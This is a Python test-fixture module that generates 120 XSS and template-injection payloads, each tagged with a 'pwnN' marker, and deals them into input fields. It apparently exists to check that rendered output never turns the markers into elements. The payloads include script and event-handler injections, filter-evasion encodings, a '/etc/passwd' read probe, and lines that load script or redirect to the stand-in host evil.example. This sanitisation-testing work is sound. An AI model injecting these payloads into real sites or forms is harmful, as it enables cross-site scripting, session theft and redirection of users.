"""One hundred and twenty texts that would like to be more than text; each carries a name that must never become a node."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import cycle

# `@` is replaced by the number of the payload: `pwn17` must not become an element, an attribute or a script's word.
_CORES = (
    "<script id=pwn@>alert('pwn@')</script>",
    "<ScRiPt id=pwn@ src=//evil.example/pwn@.js></sCrIpT>",
    "<img id=pwn@ src=x onerror=alert('pwn@')>",
    "<svg id=pwn@ onload=alert('pwn@')>",
    "<svg><script id=pwn@>alert(1)</script></svg>",
    "<svg><animate id=pwn@ onbegin=alert(1) attributeName=x>",
    "<math><mi id=pwn@ xlink:href=javascript:alert(1)>",
    "<body id=pwn@ onpageshow=alert(1)>",
    "<iframe id=pwn@ srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<object id=pwn@ data=javascript:alert(1)></object>",
    "<embed id=pwn@ src=javascript:alert(1)>",
    "<a id=pwn@ href=javascript:alert('pwn@')>点</a>",
    "<a id=pwn@ href='java&#9;script:alert(1)'>点</a>",
    "<form id=pwn@ action=javascript:alert(1)><button>去</button></form>",
    "<input id=pwn@ autofocus onfocus=alert(1)>",
    "<details id=pwn@ open ontoggle=alert(1)>",
    "<video id=pwn@><source onerror=alert(1)></video>",
    "<meta id=pwn@ http-equiv=refresh content='0;url=//evil.example/pwn@'>",
    "<base id=pwn@ href=//evil.example/>",
    "<link id=pwn@ rel=stylesheet href=//evil.example/pwn@.css>",
    "<style id=pwn@>*{background:url(//evil.example/pwn@)}</style>",
    "<p id=pwn@ style=position:fixed;inset:0>",
    "<template id=pwn@><b>x</b></template>",
    "<noscript><p id=pwn@ title='</noscript><img src=x onerror=alert(1)>'>",
    "<div id=pwn@ hx-get=//evil.example/ hx-trigger=load>",
    "{{7*191}}pwn@",
    "{% load static %}pwn@",
    "${alert('pwn@')}",
    "#read(\"/etc/passwd\")pwn@",
    "]]><b id=pwn@>x</b>",
    "javascript:alert('pwn@')",
    "data:text/html,<b id=pwn@>",
    "&lt;b id=pwn@&gt;",
    "&#60;img id=pwn@ src=x onerror=alert(1)&#62;",
    "\\u003cb id=pwn@\\u003e",
    "＜b id=pwn@＞",
    "=HYPERLINK(\"//evil.example/pwn@\")",
    "\u202e<b id=pwn@>\u202c",
    "\u2066<i id=pwn@>\u2069",
    "%3Cb id=pwn@%3E",
)  # fmt: skip
_AROUND = ("", '">', "'>")  # as it stands, and out of an attribute
PAYLOADS = tuple(
    (around + core).replace("@", str(at))
    for at, (around, core) in enumerate((around, core) for around in _AROUND for core in _CORES)
)


class Pool:
    """Deals the payloads out, so many to a field as it holds; what one field had, the next begins after."""

    def __init__(self, *, start: int = 0) -> None:
        at = start % len(PAYLOADS)
        self._cards: Iterator[str] = cycle(PAYLOADS[at:] + PAYLOADS[:at])
        self.dealt: set[str] = set()

    def short(self, limit: int = 40) -> str:
        """The next that fits into a short field."""
        found = next(card for card in self._cards if len(card) <= limit)
        self.dealt.add(found)
        return found

    def long(self, n: int = 24) -> str:
        """Several, a line each."""
        found = [next(self._cards) for _ in range(n)]
        self.dealt.update(found)
        return "\n".join(found)
